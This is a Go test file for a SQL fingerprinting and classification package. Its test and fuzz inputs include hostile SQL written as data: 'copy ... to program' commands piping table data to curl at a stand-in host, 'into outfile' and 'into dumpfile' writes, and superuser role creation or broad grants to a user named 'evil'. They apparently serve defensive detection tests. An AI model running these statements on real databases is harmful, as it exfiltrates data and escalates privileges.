package sqlfp

import (
	"strings"
	"testing"
	"unicode"
)

func TestFingerprint(t *testing.T) {
	tests := []struct {
		d        Dialect
		in, want string
	}{
		{Postgres, "select *\n\t  from t\n\t where name = 'secret, value'\n\t   and id in (1,2,3);", "select * from t where name = ? and id in (?);"},
		{Postgres, "SELECT a FROM t WHERE x = 42 AND y = -3.5e10 AND z = 0x1F", "SELECT a FROM t WHERE x = ? AND y = -? AND z = ?"},
		{Postgres, "insert into t values (1,'a'),(2,'b'),(3,'c')", "insert into t values (?)"},
		{Postgres, "select f(1), (2) from t", "select f(?), (?) from t"},
		{Postgres, "select E'it\\'s', $$body$$, $tag$x$tag$, U&'d\\0061t', B'0101', X'ff' -- trailing 4111111111111111\n", "select ?, ?, ?, ?, ?, ?"},
		{Postgres, `SELECT "id"::text, "Name" FROM "fx_1"."vehicle"`, `SELECT "id"::text, "Name" FROM "fx_1"."vehicle"`},
		{Postgres, "select * from t1 where a = $1 and b in ($2, $3) /* c 'x' */", "select * from t1 where a = $1 and b in ($2, $3)"},
		{Postgres, "copy t to program 'cat > /dev/null';", "copy t to program ?;"},
		{MySQL, "select *\n from t where name = 'x\\'y' and id in (1,2)", "select * from t where name = ? and id in (?)"},
		{MySQL, "select * from t where name = \"dq\" # note 13800138000\n", "select * from t where name = ?"},
		{MySQL, "select 0x41, 'q' into outfile '/tmp/x'", "select ?, ? into outfile ?"},
		{MySQL, "SELECT `a`, `b``c` FROM `db`.`t`", "SELECT `a`, `b``c` FROM `db`.`t`"},
		{MySQL, "select 'unterminated", "select ?"},
		{Postgres, "", ""},
	}
	for _, tt := range tests {
		if got := Fingerprint(tt.in, tt.d); got != tt.want {
			t.Errorf("Fingerprint(%q) = %q, want %q", tt.in, got, tt.want)
		}
		// A fingerprint of a fingerprint is itself.
		if got := Fingerprint(tt.want, tt.d); got != tt.want {
			t.Errorf("Fingerprint not idempotent on %q: %q", tt.want, got)
		}
	}
}

func TestParse(t *testing.T) {
	tests := []struct {
		d    Dialect
		in   string
		want Statement
	}{
		{Postgres, "select * from public.t where a=1", Statement{Action: "SELECT", Class: "READ", Command: "SELECT", Object: "public.t"}},
		{Postgres, `SELECT count(*) FROM "fx_1"."Xs_kh"`, Statement{Action: "SELECT", Class: "READ", Command: "SELECT", Object: "fx_1.Xs_kh"}},
		{Postgres, "with x as (select 1) select * from (select * from a) s join b on true", Statement{Action: "SELECT", Class: "READ", Command: "SELECT", Object: "a"}},
		{Postgres, "DELETE FROM Orders WHERE id > 10", Statement{Action: "DELETE", Class: "WRITE", Command: "DELETE", Object: "orders"}},
		{Postgres, "update only s.t set a = 1", Statement{Action: "UPDATE", Class: "WRITE", Command: "UPDATE", Object: "s.t"}},
		{Postgres, "insert into s.t(a) values (1)", Statement{Action: "INSERT", Class: "WRITE", Command: "INSERT", Object: "s.t"}},
		{Postgres, "truncate table only big", Statement{Action: "TRUNCATE", Class: "WRITE", Command: "TRUNCATE", Object: "big"}},
		{Postgres, "copy t to program 'curl -d @- http://x'", Statement{Action: "COPY", Class: "READ", Command: "COPY", Object: "t", Export: "program"}},
		{Postgres, "COPY (select * from s.t) TO '/tmp/out.csv'", Statement{Action: "COPY", Class: "READ", Command: "COPY", Object: "s.t", Export: "file"}},
		{Postgres, "copy t from stdin", Statement{Action: "COPY", Class: "WRITE", Command: "COPY", Object: "t"}},
		{Postgres, "create role evil superuser login password 'x'", Statement{Action: "CREATE_ROLE", Class: "ROLE", Command: "CREATE ROLE", Object: "evil", Privileged: "superuser"}},
		{Postgres, "alter user bob with nosuperuser", Statement{Action: "ALTER_ROLE", Class: "ROLE", Command: "ALTER USER", Object: "bob"}},
		{Postgres, "grant pg_execute_server_program to bob", Statement{Action: "GRANT", Class: "ROLE", Command: "GRANT", Object: "pg_execute_server_program", Privileged: "server_files"}},
		{Postgres, "grant select on table s.t to bob", Statement{Action: "GRANT", Class: "ROLE", Command: "GRANT", Object: "s.t"}},
		{Postgres, "drop table if exists s.t cascade", Statement{Action: "DROP", Class: "DDL", Command: "DROP TABLE", Object: "s.t"}},
		{Postgres, "create unique index concurrently i on s.t (a)", Statement{Action: "CREATE", Class: "DDL", Command: "CREATE INDEX", Object: "s.t"}},
		{MySQL, "select 0x41, 'q' into outfile '/tmp/x'", Statement{Action: "SELECT", Class: "READ", Command: "SELECT", Export: "outfile"}},
		{MySQL, "select a from `db`.`t` where b = 'x' into dumpfile '/tmp/y'", Statement{Action: "SELECT", Class: "READ", Command: "SELECT", Object: "db.t", Export: "dumpfile"}},
		{MySQL, "create user 'evil'@'%' identified by *****", Statement{Action: "CREATE_ROLE", Class: "ROLE", Command: "CREATE USER", Object: "evil"}},
		{MySQL, "grant all on *.* to 'evil'@'%' with grant option", Statement{Action: "GRANT", Class: "ROLE", Command: "GRANT", Object: "*.*", Privileged: "all_privileges"}},
		{MySQL, "grant select on db.t to 'r'@'%' with grant option", Statement{Action: "GRANT", Class: "ROLE", Command: "GRANT", Object: "db.t", Privileged: "grant_option"}},
		{MySQL, "load data infile '/tmp/f' into table t", Statement{Action: "LOAD", Class: "WRITE", Command: "LOAD DATA", Object: "t"}},
		{MySQL, "delete from t", Statement{Action: "DELETE", Class: "WRITE", Command: "DELETE", Object: "t"}},
		{MySQL, "SET NAMES utf8mb4", Statement{Action: "SET", Class: "MISC", Command: "SET"}},
		{MySQL, "", Statement{Action: "UNKNOWN", Class: "MISC"}},
	}
	for _, tt := range tests {
		got := Parse(tt.in, tt.d)
		got.Fingerprint = ""
		if got != tt.want {
			t.Errorf("Parse(%q) = %+v, want %+v", tt.in, got, tt.want)
		}
	}
}

func TestLongSelectIntoOutfile(t *testing.T) {
	s := "select " + strings.Repeat("a, ", 300) + "b from t into outfile '/tmp/x'"
	if got := Parse(s, MySQL); got.Export != "outfile" || got.Object != "t" {
		t.Errorf("got %+v", got)
	}
	if got := Fingerprint(strings.Repeat("select 'x'; ", 2000), Postgres); len(got) > MaxLen+len("…") {
		t.Errorf("fingerprint len %d", len(got))
	}
}

// quotedLiterals returns the bodies of the string literals of s as the
// dialect reads them: an independent, deliberately plain reading.
func quotedLiterals(s string, d Dialect) (lits []string, rest string) {
	var out strings.Builder
	var l []token
	lex(s, d, func(t token) {
		if t.kind == tLit {
			l = append(l, t)
			out.WriteString(" ")
			return
		}
		out.WriteString(" " + t.text + " ")
	})
	for _, t := range l {
		lits = append(lits, t.text)
	}
	return lits, out.String()
}

func alnum(s string) bool {
	for _, r := range s {
		if !unicode.IsLetter(r) && !unicode.IsDigit(r) {
			return false
		}
	}
	return true
}

// checkNoLeak fails when a word of a quoted literal of stmt shows in its
// fingerprint while it appears nowhere outside literals.
func checkNoLeak(t *testing.T, stmt string, d Dialect) {
	fp := Fingerprint(stmt, d)
	lits, rest := quotedLiterals(stmt, d)
	for _, lit := range lits {
		for _, w := range strings.FieldsFunc(lit, func(r rune) bool { return !unicode.IsLetter(r) && !unicode.IsDigit(r) }) {
			if len(w) < 4 || !alnum(w) || strings.Contains(rest, w) || strings.Contains(strings.ToLower(quoteIdent("", d)+"?…"), w) {
				continue
			}
			if strings.Contains(fp, w) {
				t.Fatalf("fingerprint %q of %q keeps %q from a literal", fp, stmt, w)
			}
		}
	}
}

// FuzzFingerprint checks that fingerprinting never panics and never keeps
// a word of a quoted string, whatever the statement around it.
func FuzzFingerprint(f *testing.F) {
	seeds := []string{
		"select * from t where name = 'secret, value' and id in (1,2,3)",
		`select *\n from t where name = 'x\'y' and id in (1,2)`,
		"select E'a\\'b secretword', $q$dollar secret$q$ from t",
		"select 'a'' b', \"ident\" from t -- 'comment secret'",
		"copy t to program 'curl http://exfil'",
		"insert into t values ('ab12cd34'), ('zz99')",
		"/* nested /* comment 'x' */ 'leak' */ select 1",
	}
	for _, s := range seeds {
		f.Add(s, "hunter2secret", false)
		f.Add(s, "secret", true)
	}
	f.Fuzz(func(t *testing.T, stmt, secret string, mysql bool) {
		d := Postgres
		if mysql {
			d = MySQL
		}
		Parse(stmt, d)
		checkNoLeak(t, stmt, d)
		// A secret placed in a properly quoted string is never kept.
		q := "'" + strings.ReplaceAll(secret, "'", "''") + "'"
		if d == MySQL {
			q = "'" + strings.NewReplacer(`\`, `\\`, "'", `\'`).Replace(secret) + "'"
		}
		clean := "select a from t where b = " + q + " and c in (1, 2)"
		if len(secret) >= 4 && alnum(secret) && !strings.Contains("select a from t where b = and c in ( , )", secret) {
			if fp := Fingerprint(clean, d); strings.Contains(fp, secret) {
				t.Fatalf("fingerprint %q keeps secret %q", fp, secret)
			}
		}
	})
}

func BenchmarkFingerprint(b *testing.B) {
	s := `SELECT "id"::text, "vin"::text, "owner_name"::text FROM "fx_1"."vehicle_telematics" WHERE owner_mobile = '13800138000' AND id IN (1, 2, 3, 4)`
	b.SetBytes(int64(len(s)))
	for b.Loop() {
		Parse(s, Postgres)
	}
}
